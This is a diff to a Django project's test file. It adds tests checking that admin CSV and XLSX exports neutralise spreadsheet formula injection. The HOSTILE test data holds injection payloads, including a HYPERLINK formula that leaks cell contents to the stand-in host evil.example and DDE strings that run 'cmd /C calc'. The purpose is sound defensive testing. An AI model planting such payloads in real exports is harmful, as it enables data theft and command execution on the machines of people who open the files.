@@ -1,16 +1,23 @@
-"""Issue 15, the web-facing part: declared settings and SITE_URL, receivers connected at start-up."""
+"""Issue 15, the web-facing part: export escaping, declared settings and SITE_URL, receivers at start-up."""
 
 from __future__ import annotations
 
+import csv
+import io
 import os
 import re
 import subprocess
 import sys
 from pathlib import Path
 
+import openpyxl
 import pytest
+from django.contrib import admin
+from django.urls import reverse
 
+from interview import models as m
 from interview.checks import check_site_url
+from tests import factories as f
 
 ROOT = Path(__file__).resolve().parents[1]
 PRODUCTION = {"DJANGO_DEBUG": "0", "DJANGO_SECRET_KEY": "k" * 60, "DJANGO_SETTINGS_MODULE": "live_interview.settings"}
@@ -86,3 +93,62 @@ def test_chat_completed_receivers_connected_after_setup(uid):
     )
     result = _python(code, DJANGO_DEBUG="1")
     assert result.stdout.strip() == "True", result.stderr
+
+
+# --- Admin exports: no cell runs as a formula ------------------------------------------------------
+
+HOSTILE = {
+    "=": '=HYPERLINK("https://evil.example/?leak="&A2,"Open")',
+    "+": "+1+cmd|' /C calc'!A0",
+    "-": "-2+3+cmd|' /C calc'!A0",
+    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+# The model, the column holding the hostile text, and how to store it there.
+EXPORTS = {
+    "chat-title": (m.Chat, "title", lambda text: f.ChatFactory(title=text)),
+    "role-request-reason": (m.RoleChangeRequest, "reason", lambda text: f.RoleChangeRequestFactory(reason=text)),
+    "resume-title": (m.UploadedResume, "title", lambda text: f.ResumeFactory(title=text)),
+}
+FORMATS = {"csv": "0", "xlsx": "1"}  # their places in the admin's export form
+
+
+def _export(client, model, fmt: str) -> list[dict[str, object]]:
+    """Export every row of `model` through the admin in `fmt` and read the file back as dicts."""
+    resource = admin.site._registry[model].resource_classes[0]
+    columns = {f"{resource.__name__.lower()}_{name}": "on" for name in resource().get_export_order()}
+    url = reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_export")
+    response = client.post(url, {"format": FORMATS[fmt], "resource": "0", **columns})
+    assert response.status_code == 200
+    if fmt == "csv":
+        return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    header, *rows = [[cell for cell in row] for row in sheet.iter_rows()]
+    assert not [cell.coordinate for row in rows for cell in row if cell.data_type == "f"]  # no formula cell
+    names = [cell.value for cell in header]
+    return [dict(zip(names, (cell.value for cell in row), strict=True)) for row in rows]
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("fmt", FORMATS)
+@pytest.mark.parametrize("trigger", HOSTILE)
+@pytest.mark.parametrize("case", EXPORTS)
+def test_admin_export_escapes_formula(admin_client, case, trigger, fmt):
+    model, column, build = EXPORTS[case]
+    build(HOSTILE[trigger])
+    (row,) = _export(admin_client, model, fmt)
+    assert row[column] == "'" + HOSTILE[trigger]
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("fmt", FORMATS)
+def test_admin_export_keeps_plain_text_and_numbers(admin_client, fmt):
+    chat = f.ChatFactory(title="Backend interview - round 2")
+    (row,) = _export(admin_client, m.Chat, fmt)
+    assert row["title"] == "Backend interview - round 2" and str(row["id"]) == str(chat.pk)
+
+
+@pytest.mark.django_db
+def test_admin_export_xlsx_replaces_control_characters(admin_client):
+    f.ChatFactory(title="Line\x01feed")
+    (row,) = _export(admin_client, m.Chat, "xlsx")
+    assert row["title"] == "Line\ufffdfeed"
